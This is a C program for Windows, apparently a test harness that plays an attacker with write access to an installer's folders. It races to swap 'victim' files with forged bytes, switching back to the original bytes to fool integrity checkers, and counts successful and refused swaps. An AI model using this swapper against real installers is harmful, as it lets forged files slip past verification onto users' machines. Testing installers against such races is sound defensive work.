/* An attacker who can write the installer's folders. Usage:
     swapper STOPFILE SECONDS FORGED VICTIM [FORGED VICTIM ...]
   Until STOPFILE exists (at most SECONDS), whenever a VICTIM file exists it
   tries, again and again, to put other bytes in its place: in turn FORGED's
   bytes and the victim's own first bytes it saw (so that a checker reading at
   the wrong moment sees the real file), each time in turn written into the
   file and moved over it from a copy. Then prints per victim a line:
   VICTIM <tab> replaced N <tab> refused M. */
#include <windows.h>

#include <stdio.h>
#include <stdlib.h>

typedef struct {
  const wchar_t* path;
  char* forged;
  DWORD forgedLen;
  char* seen;  /* the victim's bytes the first time it could be read; NULL before */
  DWORD seenLen;
  long replaced, refused;
} Victim;

static char* ReadAll(const wchar_t* path, DWORD* len) {
  HANDLE h = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, NULL,
                         OPEN_EXISTING, 0, NULL);
  if (h == INVALID_HANDLE_VALUE) return NULL;
  DWORD size = GetFileSize(h, NULL), got = 0;
  char* buf = (size == INVALID_FILE_SIZE) ? NULL : (char*)malloc(size + 1);
  if (buf && (!ReadFile(h, buf, size, &got, NULL) || got != size)) {
    free(buf);
    buf = NULL;
  }
  CloseHandle(h);
  *len = size;
  return buf;
}

static BOOL WriteInto(const wchar_t* path, const char* bytes, DWORD len) {
  HANDLE h = CreateFileW(path, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, NULL,
                         OPEN_EXISTING, 0, NULL);
  if (h == INVALID_HANDLE_VALUE) return FALSE;
  DWORD written = 0;
  BOOL ok = WriteFile(h, bytes, len, &written, NULL) && written == len && SetEndOfFile(h);
  CloseHandle(h);
  return ok;
}

static BOOL MoveOver(const wchar_t* path, const char* bytes, DWORD len) {
  wchar_t staging[MAX_PATH + 8];
  _snwprintf(staging, MAX_PATH + 8, L"%ls.swp", path);
  staging[MAX_PATH + 7] = 0;
  HANDLE h = CreateFileW(staging, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
  if (h == INVALID_HANDLE_VALUE) return FALSE;
  DWORD written = 0;
  BOOL ok = WriteFile(h, bytes, len, &written, NULL) && written == len;
  CloseHandle(h);
  ok = ok && MoveFileExW(staging, path, MOVEFILE_REPLACE_EXISTING);
  if (!ok) DeleteFileW(staging);
  return ok;
}

int wmain(int argc, wchar_t** argv) {
  if (argc < 5 || argc % 2 == 0) {
    fwprintf(stderr, L"usage: swapper STOPFILE SECONDS FORGED VICTIM [FORGED VICTIM ...]\n");
    return 2;
  }
  const DWORD until = GetTickCount() + (DWORD)_wtoi(argv[2]) * 1000;
  const int n = (argc - 3) / 2;
  Victim* v = (Victim*)calloc((size_t)n, sizeof *v);
  for (int i = 0; i < n; ++i) {
    v[i].forged = ReadAll(argv[3 + 2 * i], &v[i].forgedLen);
    v[i].path = argv[4 + 2 * i];
    if (!v[i].forged) {
      fwprintf(stderr, L"cannot read %ls\n", argv[3 + 2 * i]);
      return 2;
    }
  }
  for (unsigned long round = 0; GetFileAttributesW(argv[1]) == INVALID_FILE_ATTRIBUTES &&
                                (LONG)(until - GetTickCount()) > 0;
       ++round) {
    for (int i = 0; i < n; ++i) {
      Victim* x = &v[i];
      if (GetFileAttributesW(x->path) == INVALID_FILE_ATTRIBUTES) continue;
      if (!x->seen) {
        DWORD len = 0;
        char* bytes = ReadAll(x->path, &len);
        if (bytes && (len != x->forgedLen || memcmp(bytes, x->forged, len) != 0)) {
          x->seen = bytes;
          x->seenLen = len;
        } else {
          free(bytes);
        }
      }
      const BOOL real = (round & 2) && x->seen;
      const char* bytes = real ? x->seen : x->forged;
      const DWORD len = real ? x->seenLen : x->forgedLen;
      const BOOL ok = (round & 1) ? MoveOver(x->path, bytes, len) : WriteInto(x->path, bytes, len);
      if (ok) {
        ++x->replaced;
      } else if (GetFileAttributesW(x->path) != INVALID_FILE_ATTRIBUTES) {
        ++x->refused;
      }
    }
    Sleep(1);
  }
  for (int i = 0; i < n; ++i) wprintf(L"%ls\treplaced %ld\trefused %ld\n", v[i].path, v[i].replaced, v[i].refused);
  return 0;
}
